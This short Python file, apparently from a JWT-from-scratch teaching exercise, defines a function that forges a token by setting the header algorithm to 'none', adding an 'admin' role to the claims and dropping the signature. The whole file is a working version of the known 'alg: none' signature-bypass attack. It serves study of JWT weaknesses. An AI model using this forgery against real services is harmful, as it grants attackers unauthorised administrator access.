"""With the given helpers."""

from jwt_from_scratch.encoding import b64u_decode, b64u_encode, json_dumps, json_loads_strict


def forge_none(token):
    claims = json_loads_strict(b64u_decode(token.split(".")[1])) | {"role": "admin"}
    return b64u_encode(json_dumps({"alg": "none"})) + "." + b64u_encode(json_dumps(claims)) + "."
